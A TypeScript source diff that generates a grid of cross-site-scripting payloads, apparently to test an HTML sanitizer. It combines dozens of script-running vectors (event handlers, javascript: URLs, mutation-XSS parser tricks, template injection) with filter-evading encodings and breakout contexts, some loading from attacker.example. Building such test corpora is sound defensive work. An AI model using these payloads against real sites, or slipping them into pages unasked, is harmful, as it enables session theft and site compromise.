@@ -1,0 +1,177 @@
+// Malicious HTML, made from a grammar: ways to run a script × ways to write them down × contexts to break out of. Each
+// calls `attack` with its number, or brings something from the attacker's host.
+
+const attacker = 'attacker.example';
+
+/** Ways to run a script or to fetch something. CODE is what runs, URL leads to the attacker. */
+const vectors = [
+  ...['<script>CODE</script>', '<script src="URL"></script>', '<script/src=URL>', '<script>CODE'],
+  ...['<img src=x onerror=CODE>', '<img src="x" onerror="CODE">', '<img srcset="URL 1x" src=x onerror=CODE>'],
+  ...['<svg onload=CODE>', '<svg><script>CODE</script></svg>', '<svg><image href="x" onerror="CODE"/></svg>'],
+  '<svg><animate onbegin=CODE attributeName=x dur=1s>',
+  '<svg><a><animate attributeName=href values="javascript:CODE" /><text y=20>x</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=CODE /></svg>#x"/></svg>',
+  ...['<body onload=CODE>', '<html onmouseover=CODE>', '<frameset onload=CODE><frame src="javascript:CODE">'],
+  ...['<iframe src="javascript:CODE"></iframe>', '<iframe srcdoc="<script>parent.CODE</script>"></iframe>'],
+  ...['<iframe src="URL"></iframe>', '<iframe onload=CODE></iframe>', '<fencedframe src="URL">'],
+  ...['<a href="javascript:CODE">a</a>', '<a href="data:text/html,<script>CODE</script>">a</a>'],
+  ...['<a href="vbscript:CODE">a</a>', '<a href="//URL" onclick=CODE target=_top ping="URL">a</a>'],
+  ...[
+    '<math href="javascript:CODE">m</math>',
+    '<math><maction actiontype=statusline xlink:href="javascript:CODE">m',
+  ],
+  ...['<details open ontoggle=CODE>d', '<input autofocus onfocus=CODE>', '<select autofocus onfocus=CODE>'],
+  ...[
+    '<video><source onerror=CODE></video>',
+    '<audio src=x onerror=CODE>',
+    '<video poster="URL" onloadstart=CODE>',
+  ],
+  ...[
+    '<object data="javascript:CODE"></object>',
+    '<object data="URL">',
+    '<embed src="URL">',
+    '<applet code="URL">',
+  ],
+  ...[
+    '<form action="javascript:CODE"><button>b</button></form>',
+    '<button formaction="javascript:CODE">b</button>',
+  ],
+  ...[
+    '<meta http-equiv="refresh" content="0;url=URL">',
+    '<meta http-equiv=refresh content="0;javascript:CODE">',
+  ],
+  ...['<base href="URL">', '<link rel=stylesheet href="URL">', '<link rel=prefetch href="URL">'],
+  ...[
+    '<style>@import "URL";</style>',
+    '<style>*{background:url(URL)}</style>',
+    '<p style="background:url(URL)">p',
+  ],
+  ...[
+    '<table background="URL"><td background="URL">t',
+    '<marquee onstart=CODE>m',
+    '<p onpointerenter=CODE>p</p>',
+  ],
+  ...[
+    '<p id=x tabindex=0 onfocus=CODE style="animation:x 1s" onanimationstart=CODE>p',
+    '<dialog open onclose=CODE>',
+  ],
+  ...[
+    '<template shadowrootmode=open><img src=x onerror=CODE></template>',
+    '<xss contenteditable onfocus=CODE autofocus>',
+  ],
+  // Text that is markup only to whoever parses it again.
+  '<noscript><p title="</noscript><img src=x onerror=CODE>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=CODE&gt;">',
+  '<svg></p><style><a id="</style><img src=x onerror=CODE>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CODE>',
+  '<xmp><p title="</xmp><img src=x onerror=CODE>">',
+  '<textarea><img title="</textarea><img src=x onerror=CODE>"></textarea>',
+  '<title><img title="</title><img src=x onerror=CODE>"></title>',
+  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=CODE>">',
+  '<option><style></option></select><img src=x onerror=CODE></style>',
+  ...['<!--><img src=x onerror=CODE>-->', '<!--[if gte IE 4]><script>CODE</script><![endif]-->'],
+  ...[
+    '<![CDATA[<img src=x onerror=CODE>]]>',
+    '<?xml version="1.0"?><script>CODE</script>',
+    '<!DOCTYPE x [<!ENTITY y "<script>CODE</script>">]>&y;',
+  ],
+  ...[
+    '\x24{CODE}',
+    '{{constructor.constructor("CODE")()}}',
+    "';CODE//",
+    '";CODE//',
+    '`;CODE//',
+    '\\u003cscript\\u003eCODE\\u003c/script\\u003e',
+  ],
+];
+
+type Writing = (payload: string) => string;
+
+const everyOther = (text: string) =>
+  [...text].map((letter, index) => (index % 2 ? letter : letter.toUpperCase())).join('');
+const inTags =
+  (change: (name: string) => string): Writing =>
+  (payload) =>
+    payload.replaceAll(/(<\/?)([a-z]+)/gi, (_, open: string, name: string) => open + change(name));
+const entities = (text: string) => Array.from(text, (letter) => `&#${letter.codePointAt(0)};`).join('');
+
+/** Ways to write the same down. */
+const writings: Writing[] = [
+  (payload) => payload,
+  inTags(everyOther),
+  // Slashes and line breaks where blanks are expected.
+  (payload) => payload.replaceAll(/<(\w+) /g, '<$1/'),
+  (payload) => payload.replaceAll(/<(\w+) /g, '<$1\n\t'),
+  // Without its last bracket, as if what follows were part of it.
+  (payload) => payload.replace(/>$/, ' '),
+  // Schemes and handlers that only a browser reads as such.
+  (payload) => payload.replaceAll('javascript:', 'java\tscript:').replaceAll(/\bon([a-z]+)=/g, 'ON$1\n='),
+  (payload) =>
+    payload
+      .replaceAll('javascript:', `${entities('javascript')}&colon;`)
+      .replaceAll('CODE', entities('CODE')),
+  (payload) => payload.replaceAll('javascript:', ' &#1;javascript:').replaceAll('"', "'"),
+  // Names that are put together again when a filter takes the middle out.
+  inTags((name) => `${name.slice(0, 2)}<${name}>${name.slice(2)}`),
+  // Already escaped, once and twice: it must stay a text.
+  (payload) => payload.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
+  (payload) => payload.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
+  (payload) => payload.replaceAll('<', '%3C').replaceAll('>', '%3E').replaceAll('"', '%22'),
+  (payload) => payload.replaceAll('<', '＜').replaceAll('>', '＞'),
+];
+
+/** What closes the place that a text may stand in: attributes, titles, scripts, comments, data. */
+const contexts = [
+  ...[
+    '',
+    '">',
+    "'>",
+    ' ',
+    '--><!--x-->',
+    '</title>',
+    '</textarea>',
+    '</script>',
+    '</style>',
+    ']]>',
+    '</p></div>',
+  ],
+  ...[
+    '\\">',
+    '</noscript>',
+    '</template>',
+    '</svg>',
+    '</math>',
+    '`>',
+    '"}]</script>',
+    '\u2028',
+    '\u202e',
+    "$'",
+    '$&',
+  ],
+];
+
+export interface Payload {
+  number: number;
+  html: string;
+}
+
+const places = {
+  CODE: (number: number) => `attack(${number})`,
+  URL: (number: number) => `https://${attacker}/${number}`,
+};
+
+/** Every vector in every writing; the contexts take turns, so that each meets all vectors and all writings. */
+export const payloads: Payload[] = vectors.flatMap((vector, row) =>
+  writings.map((write, column) => {
+    const number = row * writings.length + column;
+    const context = contexts[(row + column) % contexts.length];
+    const written = write(vector)
+      .replaceAll(entities('CODE'), () => entities(places.CODE(number)))
+      .replaceAll('CODE', () => places.CODE(number))
+      .replaceAll('URL', () => places.URL(number));
+    return { number, html: `${context}${written}` };
+  }),
+);
+
+/** Ends whatever a payload has left open, so that the next one is read as markup again. */
+export const closing = `"'>--></script></style></textarea></title></xmp></noscript></template></svg></math></option></select>]]>`;
